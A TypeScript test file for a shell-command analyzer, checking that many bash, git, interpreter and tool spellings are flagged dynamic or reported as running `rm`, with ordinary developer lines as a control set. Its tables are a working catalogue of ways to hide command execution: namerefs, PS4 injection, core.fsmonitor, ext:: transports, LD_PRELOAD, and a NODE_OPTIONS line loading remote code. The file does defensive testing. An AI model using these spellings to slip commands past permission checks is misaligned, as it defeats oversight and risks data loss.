// Issue 23, part 1: the modeled core. Tables of spellings for each class the second attack round
// broke, through the compiled executable (`programs --jsonl`, as `programs --json` reads one line):
// each spelling must be reported dynamic or list `rm`. And ordinary developer lines must stay static.
// Then all of them, and more probes, run under the real bash with stub programs (bash-sandbox.ts):
// whatever bash ran must be reported, or the line dynamic. core.ts's builtin table is checked against
// the real bash's `compgen -b`, `set -o` and `shopt`.
import { afterAll, describe, expect, test } from "bun:test";
import { BUILTINS, SET_NAMES, SHOPT_NAMES } from "../../src/shell/core";
import { openSandbox } from "./bash-sandbox";
import { missed, verdicts } from "./verdicts";

const A = "'a[$(rm x)]'";

/** Class -> spellings; every spelling runs `rm` under bash (or could, given the files it names). */
const CLASSES: Record<string, string[]> = {
  "namerefs": [
    `x=1; declare -n r=x; r=${A}; (( x ))`,
    `f() { local -n r=x; r=${A}; }; x=1; f; (( x ))`,
    `x=1; typeset -n r=x; r=${A}; echo $(( x ))`,
    `x=1; declare -gn r=x; r=${A}; [[ x -eq 1 ]]`,
    `x=1; declare -n r; r=x; r=${A}; (( x ))`,
    `x=1; declare -n 'r=x'; r=${A}; let x`,
    `x=1; declare -n r=x; read r <<< ${A}; (( x ))`,
    `x=1; declare -n r=x; printf -v r %s ${A}; (( x ))`,
    "declare -n r=PS4; r='$(rm x) '; set -x; :",
    "declare -n r=GIT_EXTERNAL_DIFF; r=rm; export GIT_EXTERNAL_DIFF; git diff",
    `x=1; declare -n r=x; for r in ${A}; do :; done; (( x ))`,
    `x=1; declare -rn r=x 2>/dev/null; (( x ))`,
  ],
  "assigning builtins": [
    `x=1; printf -v x %s ${A}; (( x ))`,
    `x=1; printf -vx %s ${A}; (( x ))`,
    `x=1; read x <<< ${A}; (( x ))`,
    `x=1; IFS= read -r x <<< ${A}; echo $(( x ))`,
    `x=1; read -a x <<< ${A}; (( x ))`,
    `x=1; mapfile -t x <<< ${A}; (( x ))`,
    `x=1; readarray x <<< ${A}; (( x ))`,
    `b=${A}; x=1; getopts b x -b; (( x ))`,
    `x=1; export x="$(printf %s ${A})"; (( x ))`,
    `x=1; declare x=$(printf %s ${A}); (( x ))`,
    `x=1; f() { local x=$1; (( x )); }; f ${A}`,
    "printf -v PS4 '$(rm x) '; set -x; :",
    "read PS4 <<< '$(rm x) '; set -x; :",
    "mapfile -t PS4 <<< '$(rm x) '; set -x; :",
    "printf -v GIT_EXTERNAL_DIFF rm; export GIT_EXTERNAL_DIFF; git diff",
    "read -r GIT_SSH_COMMAND <<< rm; export GIT_SSH_COMMAND; git ls-remote ssh://h/r",
    "read LD_PRELOAD <<< ./x.so; export LD_PRELOAD; ls",
    "printf -v BASH_ENV ./e.sh; export BASH_ENV; bash -c :",
    "getopts a PS4 -a; set -x; :",
    "declare PS4=$(printf %s '$(rm x) '); set -x; :",
    "export GIT_EXTERNAL_DIFF=$(printf rm); git diff",
    "o=-v; printf \"$o\" PS4 '$(rm x) '; set -x; :", "o=-v; n=" + A + "; [ \"$o\" \"$n\" ]", "o=-v; test $o 'a[$(rm x)]'",
    "o=-p; n=" + A + "; a & wait $o \"$n\"", "o=-v; printf $o \"$n\" x",
  ],
  "loop variables": [
    `x=1; for x in ${A}; do :; done; (( x ))`,
    `x=1; for x in 1 ${A}; do :; done; echo $((x))`,
    `set -- ${A}; x=1; for x; do :; done; (( x ))`,
    `x=1; select x in ${A}; do break; done <<< 1; (( x ))`,
    "for PS4 in '$(rm x) '; do set -x; :; done",
    "for GIT_EXTERNAL_DIFF in rm; do export GIT_EXTERNAL_DIFF; git diff; done",
  ],
  "assigning expansions": [
    `x=1; unset x; : \${x:=${A}}; (( x ))`,
    `x=1; unset x; : \${x=${A}}; (( x ))`,
    `x=1; unset x; echo "\${x:=${A}}" >/dev/null; (( x ))`,
    "unset PS4; : ${PS4:='$(rm x) '}; set -x; :",
    "unset PS4; : ${PS4='$(rm x) '}; set -x; :",
    "unset GIT_EXTERNAL_DIFF; : ${GIT_EXTERNAL_DIFF:=rm}; export GIT_EXTERNAL_DIFF; git diff",
  ],
  "special variables": [
    `OPTIND=${A}; (( OPTIND ))`,
    `SHLVL=${A}; (( SHLVL ))`,
    `read OPTIND <<< ${A}; (( OPTIND ))`,
    `read SHLVL <<< ${A}; echo $(( SHLVL ))`,
    `printf -v HISTCMD %s ${A}; (( HISTCMD ))`,
    `LINENO=${A}; [[ LINENO -gt 0 ]]`,
    `SECONDS=${A}; let SECONDS`,
    `unset RANDOM; RANDOM=${A}; (( RANDOM ))`,
    `OPTIND=${A}; echo \${s:OPTIND}`,
    "(( HISTCMD ))", "echo $((RANDOM % 6))", "echo $((SECONDS))", "(( BASH_SUBSHELL ))",
  ],
  "options and traps": [
    "set -k; git diff GIT_EXTERNAL_DIFF='rm x'",
    "set -o keyword; git diff GIT_EXTERNAL_DIFF='rm x'",
    "set -eko pipefail; git diff GIT_EXTERNAL_DIFF='rm x'",
    "shopt -s expand_aliases; alias l='rm x'\nl",
    "set -o posix; alias l='rm x'\nl",
    "shopt -s extdebug", "shopt -s cdable_vars", "shopt -u interactive_comments", "shopt -s compat31", "set -T", "set -E",
    "set -o history", "set -o vi", "set $o", "shopt -s $o", "shopt $o extdebug", "shopt \"$o\" -o keyword",
    "SHELLOPTS=xtrace:keyword bash -c 'git diff GIT_EXTERNAL_DIFF=rm'", "BASHOPTS=expand_aliases bash -c :",
    "POSIXLY_CORRECT=1 bash -c :", "env BASH_COMPAT=31 bash -c :",
    "trap 'rm x' EXIT", "trap -- 'rm x' DEBUG", "trap \"$c\" EXIT",
    "bash -k -c 'git diff GIT_EXTERNAL_DIFF=rm'", "bash -o keyword -c 'git diff GIT_EXTERNAL_DIFF=rm'", "sh -k -c :",
    "bash -O expand_aliases -c 'alias x=rm\nx'", "bash -O extdebug -c :", "bash --posix -c :", "bash --debugger -c :", "bash $o -c :",
  ],
  "heredoc delimiters": [
    "cat <<E\\\nOF\n$(rm x)\nEOF",
    "cat <<EO\\\nF\n$(rm x)\nEOF",
    "cat <<\\\nEOF\n$(rm x)\nEOF",
    "bash <<E\\\nOF\nrm x\nEOF",
    "cat <<-E\\\nOF\n\t`rm x`\n\tEOF",
  ],
  "git settings": [
    "git config --file f core.pager 'rm x'",
    "git config -f f core.fsmonitor 'rm x'",
    "git config --file=f core.sshCommand 'rm x'",
    "git config --blob HEAD:x --type bool core.pager 'rm x'",
    "git config set core.sshCommand 'rm x'",
    "git config --global --add gpg.program 'rm x'",
    "git config gpg.ssh.defaultKeyCommand 'rm x'",
    "git config --replace-all core.hooksPath .hooks",
    "git config -e", "git config --edit --global", "git config --rename-section foo alias",
    "git config $k $v", "git config user.name x; git config --file f $k 'rm x'",
    "git -c gpg.ssh.defaultKeyCommand='rm x' commit -S -m x",
    "git -c gpg.ssh.program='rm x' commit -S -m x",
    "git -c core.fsmonitor='rm x' status",
    "git -c Core.FSMonitor='rm x' status",
    "git -c url.ext::sh.insteadOf=https:// clone https://x",
    "git -c protocol.allow=always fetch origin",
    "git -c safe.directory='*' status",
    "git -c credential.helper='!rm x' push",
    "git --config-env=core.pager=P log",
    "git -c sequence.editor='rm x' rebase -i HEAD~2",
    "git clone -c core.fsmonitor='rm x' https://h/r",
    "/usr/lib/git-core/git-config --file f core.fsmonitor 'rm x'", "git-config gpg.ssh.defaultKeyCommand 'rm x'",
    "/usr/lib/git-core/git-fetch --upload-pack='rm x' origin", "git-config --rename-section foo alias",
  ],
  "git aliases": [
    "git foo", "git st", "git lfs pull", "git x --help",
    "git -c alias.f='fetch --upload-pack=rm' f origin",
    "git -c alias.s='-c core.fsmonitor=rm status' s",
    "git -c alias.x='!rm x' x",
    "git -c alias.q='!f() { rm x; }; f' q",
    "git -c alias.l=\"log --format='%h'\" l",
    "git -c alias.a=b -c alias.b=a a",
    "git --bogus-option status",
  ],
  "git transports": [
    "GIT_ALLOW_PROTOCOL=ext git clone 'ext::sh -c rm% x' d",
    "git clone 'ext::sh -c rm% x' d",
    "git -c protocol.ext.allow=always fetch 'ext::sh -c rm% x'",
    "git remote add o 'ext::sh -c rm% x'",
    "git fetch fd::3",
    "git ls-remote --upload-pack=x 'ext::sh -c rm% x'",
    "export GIT_ALLOW_PROTOCOL=ext:file; git fetch o", "git -c remote.origin.url='ext::sh -c rm% x' fetch origin",
    "git -c tag.gpgSign=true tag v1", "git -c gpg.program=rm tag -s v1 -m x",
  ],
  "interpreter options": [
    "python -m timeit 'import os; os.system(\"rm x\")'",
    "python3 -mtimeit 'import os; os.system(\"rm x\")'",
    "python3 -m pdb x.py", "python3 -m code", "python3 -m pickle f.pkl", "python3 -m runpy x",
    "python -i -c 'x=1'", "python3 -ic 'x=1'", "python3 -i x.py", "python3 --bogus x.py",
    "node --import 'data:text/javascript,require(\"child_process\").execSync(\"rm x\")' x.js",
    "node -r 'data:text/javascript,x' x.js", "node --loader=data:text/javascript,x x.js",
    "node --env-file=.env x.js", "node -i", "node --interactive",
    "make -E 'all:;rm x'", "make --eval='all:;rm x'", "make --ev='all:;rm x'", "make -sE 'all:;rm x'",
    "strace -o '|rm x' true", "strace -o'!rm x' true", "strace --output='|rm x' true", "strace -fo '|rm x' true",
    "echo 'all:; rm x' | make -f -", "make -f /dev/stdin", "make --file=/dev/fd/0", "make -sf - <<'E'\nall:\n\trm x\nE",
    "awk -f /dev/stdin", "awk -f - f", "echo '1e rm x' | sed -f - f", "sed -f /dev/stdin f", "sed --file=/dev/stdin f", "sed -nf - f", "gawk --file=/dev/stdin f", "gawk -l ./x.so 'BEGIN{}'",
    "gawk -W source='BEGIN{system(\"rm x\")}'", "mawk -W exec /dev/stdin", "gawk -D -f p.awk",
    "perl -M'strict;system\"rm x\"' -e 1", "perl -M\"$m\" -e 1", "node --import \"$u\" x.js", "awk -f \"$f\" data", "perl -d -e 1", "perl -F'/(?{system\"rm x\"})/' -ane 1 f",
    "python3 -X presite=evil x.py", "NODE_OPTIONS='--import data:text/javascript,x' node app.js", "NODE_OPTIONS=\"$o\" node app.js",
    "export NODE_OPTIONS=--require=http://x/y.js; npm test", "PYTHONINSPECT=1 python3 x.py",
    "npm_config_script_shell='rm x' npm test", "NPM_CONFIG_SCRIPT_SHELL=/tmp/rm npm test", "npm_config_node_options='--import data:x' npm test",
    "read npm_config_script_shell <<< rm; export npm_config_script_shell; npm test",
    "perl -lne 'system(\"rm x\")' f", "perl -lane 'system q(rm x)' f", "perl -0777ne 'system q(rm x)'", "perl -l012 -e 'system q(rm x)'",
    "perl -0x1Fne 'system q(rm x)'", "perl -Ce 'system q(rm x)'", "ruby -Kue 'system(\"rm x\")'", "ruby -W0e 'system(\"rm x\")'",
    "ts-node -e 'require(\"child_process\").execSync(\"rm x\")'", "tsx --eval 'require(\"child_process\").execSync(\"rm x\")'", "tsx", "ts-node",
    "ruby --bogus x.rb", "php -d auto_prepend_file=x.php -r 1", "php -a", "lua -i",
  ],
  "carrier options, read by allow-lists": [
    "scp -OS rm a h:b", "scp -qOS rm a h:b", "rsync -Ee rm a h:b", "rsync -avEe rm a h:b", "rsync -aEMrm a h:b",
    "tar --new-option-zz -cf a.tar .", "tar --checkp=1 --checkpoint-a=exec=rm -cf a.tar .", "tar -cf a.tar --to-com=rm .",
    "less --lesskey-content='#env\nLESSOPEN=|rm %s' f", "less --bogus f", "less -k keys f",
    "ssh -I ./evil.so h", "ssh -Q cipher -I ./evil.so h", "sftp -b - h", "rsync --daemon --config=x",
  ],
  "builtins that run code": [
    "jobs -x rm x", "jobs -lx rm x", "compgen -W '$(rm x)' y", "compgen -W \"$w\" y", "compgen $o 'rm x' y", "complete -C 'rm x' y",
    "enable $o ./x.so q; q", "enable -f ./x.so q", "bind $o 'rm x'", "hash $o ./rm q; q", "fc -s", "mapfile -C 'rm x' -c 1 a <<< v",
    `_=1; echo ${A} >/dev/null; (( _ ))`,
  ],
  "line continuations": [
    "false |\\\n| rm x", "true &\\\n& rm x", "cat <\\\n<EOF\n$(rm x)\nEOF", "echo $\\\n(rm x)", "echo x >\\\n&2; rm x",
    "cat <<\\\nE\n$(rm x)\nE", "echo \"${x:-$\\\n(rm x)}\"", "a=1 $\\\n{b:-rm} x", "echo $\\\n{x:-$\\\n(rm x)}",
    "x=1; declare -\\\nn r=x; r=" + A + "; (( x ))", "se\\\nt -k; git diff GIT_EXTERNAL_DIFF=rm",
    // seed 2324: a backtick body is read raw, so a continuation goes even inside its quotes
    "cat <(echo `{ IF\\\nS='' \\$'\\\\x7\\\n2m' x; }`) >|o", "echo `\\$'\\\\x7\\\n2m' x`", "echo \"`'r\\\nm' x`\"",
  ],
  // found by the big fuzz run (scripts/fuzz-shell.ts, seed 23): bash's integer variables evaluate
  // what is assigned to them, an array's elements too
  "found by the fuzzer": [
    "false SHLVL SECONDS='!rm' TMOUT | RANDOM+='a[$(a)]'",
    "SECONDS=(a 'x[`b`]')",
    "readonly HISTCMD='x[`b`]' FUNCNEST '|a' || echo ${HISTFILE%b} && source /dev/stdin <<$'E'\na\nE\n:",
    "RANDOM='a[$(rm x)]'", "OPTIND='a[$(rm x)]'", "HISTCMD='a[$(rm x)]'", "SRANDOM+='a[$(rm x)]'",
    "read RANDOM <<< 'a[$(rm x)]'", "for OPTIND in 'a[$(rm x)]'; do :; done", "OPTIND=(1 'a[$(rm x)]')",
    "printf -v SECONDS %s 'a[$(rm x)]'", "declare SECONDS=$v",
    // seed 2324: `>&$x` was judged before the builtins' writes were read (`export x=...` later in the line)
    "x=1; export x='x[`a`]'; [[ -v x ]] >&2 && LINENO+='|rm' >&$x",
    "arr=1; typeset -g arr='`b`'; echo >&$arr | unset b -Ug PS1 MAPFILE=1", "popd . | shopt -s extglob || LESSOPEN='' || EXECIGNORE=1; export EXECIGNORE=\"\\$(b)\"; echo\\\n >&$EXECIGNORE", "x=1; : >&$x; export x='x[$(rm x)]'", "x=1; read x <<< 'x[$(rm x)]'; echo >&$x",
    // the same class, found in review: `declare -i` later in the text runs first when the write is in a function
    "f() { x='a[$(rm x)]'; }; declare -i x; f", "f() { read x <<< 'a[$(rm x)]'; }; declare -i x; f",
    "f() { x+='a[$(rm x)]'; }; declare -i x=1; f", "f() { declare x='a[$(rm x)]'; }; declare -gi x; f",
  ],
};

/** Probes of the same classes (and of what carried commands before), checked under the real bash below. */
const PROBES = [
  "x=1; declare -n r=x; r='a[$(rm)]'; (( x ))",
  "x=1; eval 'declare -n r=x'; r='a[$(rm)]'; (( x ))",
  "x=1; f() { local -n r=$1; r='a[$(rm)]'; }; f x; (( x ))",
  "x=1; declare -n r=x; r+='a[$(rm)]'; (( x ))",
  "x=1; read -r x <<< 'a[$(rm)]'; (( x ))",
  "x=1; { read x; } <<< 'a[$(rm)]'; (( x ))",
  "x=1; printf -v x 'a[$(rm)]'; (( x ))",
  "x=1; IFS= read -d '' x <<< 'a[$(rm)]'; (( x ))",
  "x=1; while read x; do :; done <<< 'a[$(rm)]'; (( x ))",
  "x=1; set -- 'a[$(rm)]'; x=$1; (( x ))",
  "x=1; x=${1:-'a[$(rm)]'}; (( x ))",
  "x=1; declare x; x=$(printf '%s' 'a[$(rm)]'); (( x ))",
  "x=1; coproc x { :; }; (( x ))",
  "x=1; exec {x}<>/dev/null; (( x ))",
  "i=0; for i in 1 2; do :; done; i=$((i)); x='a[$(rm)]'; (( i ))",
  "y='a[$(rm)]'; x=1; (( x = y ))",
  "y='a[$(rm)]'; x=$((1)); echo $(( x + y ))",
  "a='a[$(rm)]'; declare -i b; b=a",
  "x='a[$(rm)]'; declare -A m; m[$x]=1",
  "x='a[$(rm)]'; declare -A m=([$x]=1)",
  "x='a[$(rm)]'; arr=(1); echo ${arr[x]}",
  "x='a[$(rm)]'; arr=(1); echo ${arr[@]:x}",
  "x='a[$(rm)]'; echo ${x:x}",
  "x='a[$(rm)]'; printf '%s' \"${x:0:x}\"",
  "x='a[$(rm)]'; echo $(( $x ))",
  "x='a[$(rm)]'; [[ -v arr[x] ]]",
  "x='a[$(rm)]'; test -v 'arr[x]'",
  "x='a[$(rm)]'; unset 'arr[x]'",
  "x='a[$(rm)]'; declare -p 'arr[x]'",
  "x='a[$(rm)]'; arr[x]=1",
  "x='a[$(rm)]'; arr+=([x]=1)",
  "x='a[$(rm)]'; read 'arr[x]' <<< 1",
  "x='a[$(rm)]'; printf -v 'arr[x]' 1",
  "x='a[$(rm)]'; mapfile -t 'arr' <<< 1; echo ${arr[x]}",
  "x='a[$(rm)]'; case 1 in $((x))) ;; esac",
  "x='a[$(rm)]'; for ((i=x;i<1;i++)); do :; done",
  "x='a[$(rm)]'; echo ${!x}",
  "x='a[$(rm)]'; y=x; echo ${!y}",
  "x='$(rm)'; echo ${x@P}",
  "PS4='$(rm) '; set -o xtrace; :",
  "x=1; declare -I x",
  "declare -n r=x; x='a[$(rm)]'; (( r ))",
  "x=1; declare +n r; r=x",
  "export x=1; x+='a[$(rm)]'; (( x ))",
  "x=1; let 'x=1' 'y=x'; y='a[$(rm)]'; (( y ))",
  "x=1; alias x='rm'; x",
  "x=1; trap 'x=\"a[\\$(rm)]\"' DEBUG; (( x ))",
  "x=1; trap 'read x <<< \"a[\\$(rm)]\"' DEBUG; : ; (( x ))",
  "x=1; PROMPT_COMMAND='x=\"a[\\$(rm)]\"'; (( x ))",
  "x=1; f() { x='a[$(rm)]'; }; trap f RETURN; g() { :; }; g; (( x ))",
  "set -o keyword; env GIT_EXTERNAL_DIFF=rm git diff --no-index /dev/null /etc/hostname",
  "set -k; env x=1 GIT_EXTERNAL_DIFF=rm git diff --no-index /dev/null /etc/hostname",
  "shopt -s expand_aliases; alias g=rm\ng x",
  "BASH_ALIASES[g]=rm; shopt -s expand_aliases\ng x",
  "printf -v 'BASH_ALIASES[g]' rm; shopt -s expand_aliases\ng x",
  "read 'BASH_CMDS[g]' <<< /bin/rm; g x",
  "f() { rm x; }; trap f EXIT",
  "trap -- \"$(echo rm)\" EXIT",
  "trap 'rm' ERR; false",
  "set -E; trap 'rm' ERR; f() { false; }; f",
  "declare -ft f; trap rm DEBUG; f() { :; }; f",
  "enable -n echo; echo x",
  "command -p rm x",
  "builtin eval rm x",
  "exec -a foo rm x",
  "hash -p ./rm q; q",
  "source <(echo rm)",
  ". /dev/stdin <<< rm",
  "eval \"$(echo rm)\"",
  "compgen -C rm x",
  "mapfile -C rm -c 1 a <<< 'v'",
  "complete -C 'rm' x; compgen -C 'rm' x",
  "read -e x <<< 'rm'",
  "fc -e rm",
  "select x in a; do rm; break; done <<< 1",
  "coproc rm",
  "time rm",
  "! rm",
  "{ rm; }",
  "case x in x) rm;; esac",
  "x=rm; $x",
  "x=rm; ${x}",
  "x=(rm); \"${x[@]}\"",
  "declare -a a=(rm); ${a[0]}",
  "set -- rm; \"$@\"",
  "printf -v c rm; $c",
  ": ${c:=rm}; $c",
  "IFS=; x='r m'; $x",
  "cat <<\"E\" | bash\nrm\nE",
  "bash <<< rm",
  "bash -c rm",
  "sh -s <<< rm",
  "env -S 'rm x'",
  "xargs rm <<< x",
  "find . -maxdepth 0 -exec rm {} \\;",
  "git -c alias.r='!rm' r",
  "git -c core.pager=rm log -1",
  "GIT_PAGER=rm git log -1",
  "LESSOPEN='|rm %s' less /etc/hostname",
  "awk 'BEGIN{system(\"rm\")}'",
  "perl -e 'system \"rm\"'",
  "python3 -c 'import os; os.system(\"rm\")'",
  "node -e 'require(\"child_process\").execSync(\"rm\")'",
  "sed -n '1e rm' <<< x",
  "strace -o '|rm' true",
  "make -E 'x:;rm' x",
  "ssh -o ProxyCommand=rm h",
  "tar -cf /dev/null --to-command=rm /etc/hostname",
  "vim -es -c '!rm' -c q",
  "BASH_ENV=<(echo rm) bash -c :",
  "ENV=<(echo rm) sh -i </dev/null",
  "git init -q r && cd r && git config --local core.pager 'rm' && git log",
  "git init -q r && cd r && git config core.fsmonitor rm && git status",
  "git init -q r && cd r && git config --add core.fsmonitor rm && git status",
  "git init -q r && cd r && git config set core.fsmonitor rm && git status",
  "git init -q r && cd r && git config -f .git/config core.fsmonitor rm && git status",
  "git init -q r && cd r && git config --file=.git/config core.fsmonitor rm && git status",
  "git init -q r && cd r && git config --type=bool core.fsmonitor rm; git status",
  "git init -q r && cd r && git -c alias.s='-c core.fsmonitor=rm status' s",
  "git init -q r && cd r && git -c alias.l='!rm' l",
  "git init -q r && cd r && git config alias.l '!rm' && git l",
  "git init -q r && cd r && GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=rm git status",
  "git init -q r && cd r && GIT_CONFIG_PARAMETERS=\"'core.fsmonitor'='rm'\" git status",
  "git init -q r && cd r && git --config-env=core.fsmonitor=X status",
  "git init -q r && cd r && X=rm git --config-env=core.fsmonitor=X status",
  "git init -q r && cd r && git -c core.hooksPath=h commit --allow-empty -m x",
  "git init -q r && cd r && git -c diff.external=rm diff --no-index /dev/null /etc/hostname",
  "git init -q r && cd r && git -c \"core.fsmonitor=rm\" -C . status",
  "git init -q r && git -C r -c core.fsmonitor=rm status",
  "python3 -c 'import os; os.system(\"rm\")'",
  "python3 -m timeit -s 'import os; os.system(\"rm\")' 'pass'",
  "python3 -m trace --count -C /tmp -c /dev/null",
  "perl -Mstrict -e 'system \"rm\"'",
  "perl -e 'exec \"rm\"'",
  "awk -e 'BEGIN{system(\"rm\")}'",
  "awk 'BEGIN{\"rm\" | getline}'",
  "node --eval 'require(\"child_process\").execSync(\"rm\")'",
  "node -p 'require(\"child_process\").execSync(\"rm\")'",
  "printf 'rm\\n' | bash",
  "printf 'rm\\n' | python3",
  "python3 <<< 'import os; os.system(\"rm\")'",
  "python3 - <<'E'\nimport os; os.system(\"rm\")\nE",
  "strace -f -o '!rm' true",
  "make -f - <<'E'\nx:\n\trm\nE",
  // heredoc delimiters and bodies with quotes and continuations
  "cat <<E\\\nOF\n$(rm)\nEOF",
  "cat <<\"E\"\\\nOF\n$(rm)\nEOF",
  "cat <<E\"\"OF\n$(rm)\nEOF",
  "cat <<-\\\nEOF\n\t$(rm)\n\tEOF",
  "cat <<E\\OF\n$(rm)\nEOF",
  "cat <<EOF\n$(rm)\\\nEOF\nEOF",
  "cat <<EOF\n\\$(rm)\nEOF",
  "cat <<EOF\n`rm`\nEOF",
  "cat <<EOF\n${x:-$(rm)}\nEOF",
  "cat <<EOF\n$((`rm`))\nEOF",
  "bash <<E\\\nOF\nrm\nEOF",
  "bash <<'E'\\\nOF\nrm\nEOF",
  "x=$(cat <<E\n$(rm)\nE\n)",
  "cat <<E; cat <<F\n$(rm)\nE\n$(rm)\nF",
  "cat << E\\\n\\\nOF\n$(rm)\nEOF",
  "cat <<E\nE\\\n$(rm)\nE",
];

/** Ordinary developer lines: none of them may become dynamic. */
const ORDINARY = [
  "git commit -m x", "npm test", "for f in *.ts; do echo $f; done", "git status", "git push origin main", "git log --oneline -n 5",
  "python3 -m venv .venv", "python -m http.server 8000", "python3 -m pip install -r requirements.txt", "python3 -m pytest -x",
  "node --version", "node dist/index.js", "node -r ts-node/register x.ts", "node --experimental-strip-types x.ts",
  "perl -pi -e 's/a/b/' f", "perl -i.bak -pe 's/a/b/' f", "perl -ne 'print if /x/' f", "perl -lane 'print $F[0]' f",
  "perl -0777 -pe 's/a/b/' f", "perl -MJSON::PP -e 'print 1'", "awk -F: '{print $1}' /etc/passwd", "awk -v n=1 'NR==n' f",
  "gawk -f prog.awk f", "ruby -Ilib -e 'puts 1'", "set -e", "set -euxo pipefail", "set -euo pipefail; npm ci", "set +e",
  "shopt -s nullglob globstar", "git config user.name x", "git config --global user.email x@y", "git config --get remote.origin.url",
  "git config --list", "git config --global init.defaultBranch main", "git -c color.ui=always log", "git -C dir status",
  "git --no-pager log --oneline", "git -c user.name=x -c user.email=y commit -m z", "git -c alias.st=status st",
  "while read -r line; do echo \"$line\"; done < f", "IFS=, read -ra parts <<< \"$s\"", "make -j4 test", "make -C build install",
  "strace -f -o trace.log ls", "python3 -u script.py", "python3 -X importtime -c 'import os'", "python -W ignore x.py",
  "python3 - <<'EOF'\nprint(1)\nEOF", "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done", "for i in 1 2 3; do echo $((i * 2)); done",
  "read -p 'Continue? ' ans; echo $ans", "git stash list", "git worktree add ../x", "mapfile -t lines < f; echo \"${lines[0]}\"",
  "cd \"$(git rev-parse --show-toplevel)\" && npm test", "export NODE_ENV=production", "export PATH=\"$HOME/.local/bin:$PATH\"\ngit status",
  "declare -A m=([a]=1)", "trap 'rm -f /tmp/x' EXIT", "printf -v now '%(%s)T' -1; echo $now", "n=5; echo $((n + 1))",
  "py -3 -m pytest", "tsx src/index.ts", "npx tsx watch src/x.ts", "ts-node scripts/build.ts", "sed -f script.sed f", "sed -i -f fix.sed src/a.ts", "declare -i x; x=$((1+2)); echo $((x))", "sleep 1 & pid=$!; kill $pid; echo $((pid))", "[ \"$a\" = \"$b\" ] && echo same", "[ -n \"$x\" ]", "test \"$x\" -eq 1", "printf '%s\\n' \"$x\"", "sleep 1 & pid=$!; wait $pid", "NODE_OPTIONS=--max-old-space-size=4096 npm run build", "NODE_OPTIONS='-r ./setup.js' node app.js", "python3 -X dev x.py", "awk -v n=\"$n\" 'NR==n' f", "awk -F \"$sep\" '{print $1}' f", "python3 -W \"$w\" x.py", "node -C \"$c\" x.js", "make -f build.mk test", "make --file=Makefile.dev", "awk -f prog.awk data", "bash -lc 'npm ci'", "bash -euo pipefail -c 'make test'", "sh -ec make", "bash -xc 'npm test'", "cat <<EOF\nhello\nEOF", "cat <<'EOF'\n$(not run)\nEOF",
  "tar -czf a.tgz src", "tar xzf a.tgz", "tar -xvf a.tar -C out", "tar --exclude=node_modules -czf a.tgz .", "tar -tf a.tar",
  "rsync -avz --delete src/ h:dst/", "rsync -av --exclude .git a b", "rsync -a --progress -h a/ b/", "scp -r a h:b", "scp -P 2222 a h:b",
  "less -R f", "less +G f", "less -N --chop-long-lines f", "ssh -p 22 h ls", "ssh -i key h ls", "ssh -t h top",
];

describe("issue 23: each class of the second attack round, through the compiled executable", () => {
  for (const [name, lines] of Object.entries(CLASSES)) {
    test(`${name}: ${lines.length} spellings are dynamic or list rm`, () => {
      const v = verdicts(lines);
      const missed = lines.filter((_, i) => !v[i].dynamic && !v[i].programs.includes("rm"));
      expect(missed).toEqual([]);
    });
  }
  test(`${ORDINARY.length} ordinary developer lines stay static`, () => {
    const v = verdicts(ORDINARY);
    expect(ORDINARY.filter((_, i) => v[i].dynamic)).toEqual([]);
  });
  test("a dynamic verdict says why", () => {
    const v = verdicts(["x=1; declare -n r=x; (( x ))", "set -k", "git foo", "python -i -c 1"]);
    expect(v.map((x) => x.why.length > 0)).toEqual([true, true, true, true]);
  });
});

describe("the tables and probes under the real bash", () => {
  const sandbox = openSandbox();
  afterAll(() => typeof sandbox !== "string" && sandbox.cleanup());
  test.skipIf(typeof sandbox === "string")("what bash runs is reported, or the line is dynamic", async () => {
    if (typeof sandbox === "string") return;
    const lines = [...Object.values(CLASSES).flat(), ...PROBES, ...ORDINARY].filter((l) => !l.includes("\0"));
    const v = verdicts(lines);
    const { ran } = await sandbox.run(lines);
    expect(ran.filter((r) => r.includes("rm")).length).toBeGreaterThan(50); // the spellings really run rm
    expect(lines.map((l, i) => [l, missed(ran[i], v[i])] as const).filter(([, m]) => m.length)).toEqual([]);
  }, 300_000);
});

describe("core.ts against the real bash", () => {
  const bash = (script: string) => Bun.spawnSync(["bash", "-c", script], { stdout: "pipe", env: {} }).stdout.toString();
  test("every builtin of `compgen -b` is in the table, and nothing else", () => {
    const real = bash("compgen -b").split("\n").filter(Boolean).sort();
    expect(Object.keys(BUILTINS).sort()).toEqual(real);
  });
  test("every harmless set -o and shopt name is one bash has", () => {
    const setNames = new Set(bash("set -o").split("\n").map((l) => l.split(/\s+/)[0]));
    const shoptNames = new Set(bash("shopt").split("\n").map((l) => l.split(/\s+/)[0]));
    expect([...SET_NAMES].filter((n) => !setNames.has(n))).toEqual([]);
    expect([...SHOPT_NAMES].filter((n) => !shoptNames.has(n))).toEqual([]);
  });
});
